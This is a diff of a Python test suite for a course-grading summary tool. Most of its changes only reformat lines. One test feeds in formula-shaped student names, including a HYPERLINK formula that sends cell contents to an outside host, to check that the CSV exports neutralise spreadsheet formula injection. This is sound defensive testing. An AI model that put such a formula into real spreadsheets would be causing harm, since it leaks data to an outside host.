@@ -30,7 +30,10 @@ def question(number: int, score: float, top: float, status: str, failed: dict[st
 SHAPES = {
     "right": lambda: [question(1, 8, 8, "passed"), question(2, 4, 4, "passed")],
     "mistake": lambda: [question(1, 4, 8, "failed", {"a": "q01.triu_for_tril"}), question(2, 4, 4, "passed")],
-    "stub": lambda: [question(1, 0, 8, "not attempted", {"a": "", "b": ""}), question(2, 0, 4, "not attempted", {"a": "", "b": ""})],
+    "stub": lambda: [
+        question(1, 0, 8, "not attempted", {"a": "", "b": ""}),
+        question(2, 0, 4, "not attempted", {"a": "", "b": ""}),
+    ],
     "timeout": lambda: [question(1, 8, 8, "passed"), question(2, 0, 4, "timeout", {"a": "", "b": ""})],
     "flagged": lambda: [question(1, 0, 8, "flagged"), question(2, 2, 4, "failed", {"b": "q02.scale_by_d"})],
     "zero": lambda: [question(1, 0, 8, "failed", {"a": "q01.triu_for_tril", "b": ""}), question(2, 4, 4, "passed")],
@@ -48,8 +51,10 @@ def klass() -> dict[str, dict]:
     reports = {f"s{index:02d}": report(shape) for index, shape in enumerate(s for s in SHAPES for _ in range(4))}  # 24
     reports |= {f"u{index}": report("stub", problem="an empty folder") for index in range(3)}
     reports |= {"g0": report("stub", problem="the grader failed", grader_error=True)}
-    reports |= {"late": report("right", committed_at="2026-12-02T10:00:00+00:00", late_hours=10.5),
-                "ontime": report("mistake", committed_at="2026-11-30T10:00:00+00:00", late_hours=0)}
+    reports |= {
+        "late": report("right", committed_at="2026-12-02T10:00:00+00:00", late_hours=10.5),
+        "ontime": report("mistake", committed_at="2026-11-30T10:00:00+00:00", late_hours=0),
+    }
     assert len(reports) == 30
     return reports
 
@@ -58,14 +63,23 @@ def test_counts_and_mistakes_equal_the_reports(klass):
     found = summary.summarise(klass)
     graded = {s: klass[s] for s in sorted(klass) if not klass[s].get("problem")}
     assert found.students == 30 and found.graded == sorted(graded) and found.late == {"late": 10.5}
-    assert found.left_out == {**{f"u{i}": ("unreadable", "an empty folder") for i in range(3)}, "g0": ("grader_error", "the grader failed")}
+    assert found.left_out == {
+        **{f"u{i}": ("unreadable", "an empty folder") for i in range(3)},
+        "g0": ("grader_error", "the grader failed"),
+    }
     for q in found.questions:
         entries = [next(e for e in r["questions"] if e["number"] == q.number) for r in graded.values()]
         assert q.scores == [e["score"] for e in entries]
         expected = Counter(summary.outcome(e) for e in entries)
         assert q.counts == expected and sum(q.counts.values()) == 26
     one, two = found.questions
-    assert (one.counts["full"], one.counts["partial"], one.counts["zero"], one.counts["not attempted"], one.counts["flagged"]) == (9, 5, 4, 4, 4)
+    assert (
+        one.counts["full"],
+        one.counts["partial"],
+        one.counts["zero"],
+        one.counts["not attempted"],
+        one.counts["flagged"],
+    ) == (9, 5, 4, 4, 4)
     assert (two.counts["full"], two.counts["error"], two.counts["partial"]) == (14, 4, 4)
     assert one.mean == pytest.approx(sum(one.scores) / 26) and one.median == 4
     made = {}
@@ -78,7 +92,8 @@ def test_counts_and_mistakes_equal_the_reports(klass):
     assert list(found.mistakes) == ["q01.triu_for_tril", "q02.scale_by_d"]  # 9 students, then 4
     assert len(found.mistakes["q01.triu_for_tril"]) == 9
     assert found.failed[0] == (1, "a", sorted(s for s, r in graded.items() if r["questions"][0]["status"] == "failed"))
-    assert not any(who for n, name, who in found.failed if set(who) & {f"s{i:02d}" for i in range(8, 12)})  # stubs' checks never count
+    # stubs' checks never count
+    assert not any(who for n, name, who in found.failed if set(who) & {f"s{i:02d}" for i in range(8, 12)})
 
 
 def test_written_files_and_printed_lines(klass, tmp_path):
@@ -87,7 +102,8 @@ def test_written_files_and_printed_lines(klass, tmp_path):
     assert set(written) == set(summary.FILES)
     assert written["summary.png"].startswith(b"\x89PNG\r\n\x1a\n")
     page = written["summary.html"].decode()
-    assert 'src="data:image/png;base64,' in page and not re.search(r'(src|href)="(https?:|/|file:)', page)  # self-contained
+    # self-contained
+    assert 'src="data:image/png;base64,' in page and not re.search(r'(src|href)="(https?:|/|file:)', page)
     text = written["summary.md"].decode()
     assert "| q01.triu_for_tril |" in text and "![" in text
     assert "9 | " + ", ".join(found.mistakes["q01.triu_for_tril"]) in text
@@ -159,8 +175,10 @@ def test_an_entry_named_like_a_formula_stays_text_in_every_spreadsheet(tmp_path)
     names = ['=HYPERLINK("http://x.invalid/?"&A1,"open")', "+1+1", "-2", "@SUM(A1)", "ann"]
     reports = typed({name: report("right") for name in names})
     course = load_course(Path(__file__).resolve().parent.parent)
-    cells = {"grades.csv": [row[0] for row in _rows(grades_csv(course, reports))[1:]],
-             "canvas.csv": [row[0] for row in _rows(canvas_csv(LMS, reports))[2:]],
-             "moodle.csv": [row[0] for row in _rows(moodle_csv(LMS, reports))[1:]]}
+    cells = {
+        "grades.csv": [row[0] for row in _rows(grades_csv(course, reports))[1:]],
+        "canvas.csv": [row[0] for row in _rows(canvas_csv(LMS, reports))[2:]],
+        "moodle.csv": [row[0] for row in _rows(moodle_csv(LMS, reports))[1:]],
+    }
     for file, column in cells.items():
         assert sorted(column) == sorted("'" + name if name != "ann" else name for name in names), (file, column)
